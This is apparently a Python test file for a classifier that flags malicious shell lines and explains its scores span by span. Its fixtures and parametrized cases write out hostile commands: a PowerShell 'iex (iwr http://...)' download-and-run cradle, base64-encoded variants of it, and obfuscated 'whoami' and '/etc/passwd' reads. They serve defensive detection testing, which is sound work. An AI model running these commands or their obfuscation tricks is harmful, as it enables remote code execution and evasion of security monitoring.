from __future__ import annotations

import base64
from itertools import pairwise

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from cmdclf.classify._grams_spelling import one_spelling_of
from cmdclf.classify.grams import MOST_BYTES, GramModel
from cmdclf.classify.spans import line_spans
from cmdclf.features.embed_layers import with_layers
from cmdclf.lines import decode_batch

BAD = "powershell -c iex (iwr http://192.0.2.{0}/a.ps1)"
GOOD = "powershell -c Get-Service spooler{0} | Restart-Service"
#: Lowered, these change their length in UTF-8: 2 to 1 bytes, 3 to 1, 2 to 3, 3 to 2.
UNEVEN = "\u0130\u212a\u023a\u1e9e"


@pytest.fixture(scope="module")
def model():
    lines = [BAD.format(i) for i in range(40)] + [GOOD.format(i) for i in range(40)]
    return GramModel().fit(pa.array(lines), np.repeat([1, 0], 40))


def lowered(text):
    return pc.utf8_lower(pa.scalar(text)).as_py()


def spans_of(model, line):
    """(spans, {layer: its text, None: the line}), checked: they lie where their text stands and give the log-odds."""
    decoded = decode_batch(pa.array([line]))
    layers = decoded.text.to_pylist()
    spans = line_spans(model, line, with_layers(pa.array([line]), decoded)[0].as_py(), layers)
    texts = {None: line, **dict(enumerate(layers))}
    assert all(texts[span.layer][span.start : span.end] == span.text for span in spans)
    assert all(a.end <= b.start for a, b in pairwise(spans) if a.layer == b.layer)
    total = sum(span.log_odds for span in spans)
    assert model.bias_ + total == pytest.approx(model.decision_function(pa.array([line]))[0], abs=1e-9)
    return spans, texts


def encoded(text):
    return base64.b64encode(text.encode("utf-16-le")).decode()


def per_character(model, read):
    """What each character read adds, counted one by one from the text's own bytes."""
    _, parts = model.spans_read(read)
    out, at = [], 1
    for character in lowered(read):
        size = len(character.encode())
        out.append(float(parts[at : at + size].sum()))
        at += size
    return out, float(parts[0]), float(parts[at:].sum())


def test_lowering_keeps_every_code_point_a_code_point():
    every = "".join(chr(c) for c in range(0x110000) if not 0xD800 <= c <= 0xDFFF)
    assert len(lowered(every)) == len(every)


@given(st.text(st.one_of(st.characters(exclude_categories=["Cs"]), st.sampled_from(UNEVEN + " ;='\t")), max_size=90))
@example("")
@example("   ")
@example(UNEVEN * 12 + " iex")
@example("a" * 40 + ";" + UNEVEN * 12)
@settings(max_examples=80, deadline=None)
def test_spans_lie_where_their_text_stands_and_sum_up_to_the_log_odds(model, line):
    spans, _ = spans_of(model, line)
    if one_spelling_of([line])[0] == with_layers(pa.array([line]))[0].as_py():
        covered = "".join(span.text for span in spans)
        assert "".join(covered.split()) == "".join(line.split())


PIECES = st.sampled_from(
    ["$@", "``", "$'", "'", '"', "/b?n", "echo ", "sl", "| rev", "| sh", "<<<", "$(", ")", "eval ", "a=b;", "$a",
     "set a=b&&", "%a%", "^", "^w", "cmd /c ", "powershell -enc " + encoded("iex (iwr http://192.0.2.1)"), " ", "  ",
     "\t", "\0", "sh -c '", "C:\\PROGRA~1\\", "/./", "\\.\\", "\u2013x", "\u3000", UNEVEN, "q " * 800]
)  # fmt: skip


@given(st.lists(st.one_of(PIECES, st.text(st.characters(exclude_categories=["Cs"]), max_size=4)), max_size=16))
@settings(max_examples=150, deadline=None)
def test_of_any_tricks_the_spans_sum_up_to_the_log_odds(model, pieces):
    spans_of(model, "".join(pieces))


@pytest.mark.parametrize(
    ("line", "of_layers", "of_line"),
    [
        ("powershell -enc " + encoded("IEX (iwr http://192.0.2.1)") + " -nop", "IEX (iwr http://192.0.2.1)",
         "powershell -enc -nop"),
        (r"C:\Windows\System32\cmd.exe /c w^h^o^a^m^i /a^ll", "", r"C:\Windows\System32\cmd.exe /c w^h^o^a^m^i /a^ll"),
        ("cat /e't'c/pas''swd; ls", "", "cat /e't'c/pas''swd; ls"),
        ("/usr/bin/w?oami   -x", "", "/usr/bin/w?oami -x"),
        ("echo d2hvYW1pIC1hCg== | base64 -d | bash && ls", "whoami -a", "&& ls"),
        ("eval $(echo 'd2hvYW1p'|base64 -d) && $(rev<<<sl) $(rev<<<a-)", "whoami ls -a",
         "eval $(echo 'd2hvYW1p'|base64 -d) && $(rev<<<sl) $(rev<<<a-)"),
        # Put first, as only the head is read.
        ("powershell -x " + "y " * 1500 + "; powershell -enc " + encoded("iex (iwr http://192.0.2.1)"),
         "iex (iwr http://192.0.2.1)", "powershell -x " + "y " * 1500 + "; powershell -enc"),
        ("dir \t\tC:\\PROGRA~1\\.\\x\tfoo", "", "dir C:\\PROGRA~1\\.\\x foo"),
        ("/bin/bash -c 'ls /tmp/./x'", "", "'ls /tmp/./x"),
        ("sh -c ''", "", "sh -c ''"),
    ],
)  # fmt: skip
def test_what_stands_in_a_place_is_the_layers_and_what_is_spelt_otherwise_the_lines(model, line, of_layers, of_line):
    spans, texts = spans_of(model, line)

    def words(layer):
        found = [(span.start, span.end) for span in spans if span.layer == layer]
        return " ".join(texts[layer][a:b] for a, b in found).split()

    assert [word for layer in texts if layer is not None for word in words(layer)] == of_layers.split()
    assert words(None)[: len(of_line.split())] == of_line.split()[: len(words(None))]
    assert words(None)


def test_a_replaced_stretch_adds_what_was_put_in_its_place_adds(model):
    read = "powershell -c iex (iwr http://192.0.2.1/a.ps1)"
    line = "powershell -c @@@@ (iwr http://192.0.2.1/a.ps1)"
    each, _, _ = per_character(model, read)
    (span,) = [span for span in line_spans(model, line, read) if "@" in span.text]
    assert span.text == "@@@@"
    assert span.log_odds == pytest.approx(sum(each[14:18]), abs=1e-9)


@given(st.lists(st.text(st.sampled_from("aA" + UNEVEN + "\u0416\U0001f600;'"), min_size=1, max_size=50), max_size=6))
@settings(max_examples=60, deadline=None)
def test_a_span_adds_what_its_characters_and_the_blanks_after_them_add(model, words):
    line = " ".join(words)
    each, before, after = per_character(model, line)
    spans = line_spans(model, line, line)
    stops = [span.start for span in spans[1:]] + [len(line)]
    for k, (span, stop) in enumerate(zip(spans, stops, strict=True)):
        wanted = sum(each[span.start : stop]) + (before if k == 0 else 0) + (after if span is spans[-1] else 0)
        assert span.log_odds == pytest.approx(wanted, abs=1e-9)


@pytest.mark.parametrize("line", ["x" * 10_000, "\U0001f600" * 3000, UNEVEN * 2000, "ab " * 4000])
def test_of_a_long_line_the_part_that_is_read_is_covered(model, line):
    spans = line_spans(model, line, line)
    assert model.bias_ + sum(s.log_odds for s in spans) == pytest.approx(model.decision_function(pa.array([line]))[0])
    end = spans[-1].end
    assert MOST_BYTES - 8 <= len((" " + lowered(line[:end])).encode()) <= MOST_BYTES + 3


def test_a_layer_that_fills_what_is_read_leaves_no_span_of_the_line(model):
    layer = "\U0001f600" * 1400
    spans = line_spans(model, "the line", f"{layer} the line", [layer])
    assert {span.layer for span in spans} == {0}
    assert model.bias_ + sum(s.log_odds for s in spans) == pytest.approx(
        model.scores_read(pa.array([f"{layer} the line"]))[0]
    )


def test_what_is_put_into_an_empty_line_counts_with_it(model):
    spans = line_spans(model, "", "iex ")
    assert [(span.layer, span.start, span.end) for span in spans] == [(None, 0, 0)]
    assert model.bias_ + spans[0].log_odds == pytest.approx(model.scores_read(pa.array(["iex "]))[0])


def test_weak_neighbours_of_one_sign_are_one_span_and_strong_words_stand_alone(model):
    line = BAD.format(9)
    spans = line_spans(model, line, line)
    most = max(spans, key=lambda span: span.log_odds)
    assert " " not in most.text
    assert any(span.log_odds < 0 for span in line_spans(model, GOOD.format(9), GOOD.format(9)))
    padded = line + " q" * 300
    assert len(line_spans(model, padded, padded)) < 100


def test_without_the_strongest_span_the_score_falls_to_what_the_rest_says(model):
    for line in [BAD.format(i) for i in range(50, 60)]:
        top = max(line_spans(model, line, line), key=lambda span: span.log_odds)
        without = line[: top.start] + line[top.end :]
        before, after = model.decision_function(pa.array([line, without]))
        assert after < before
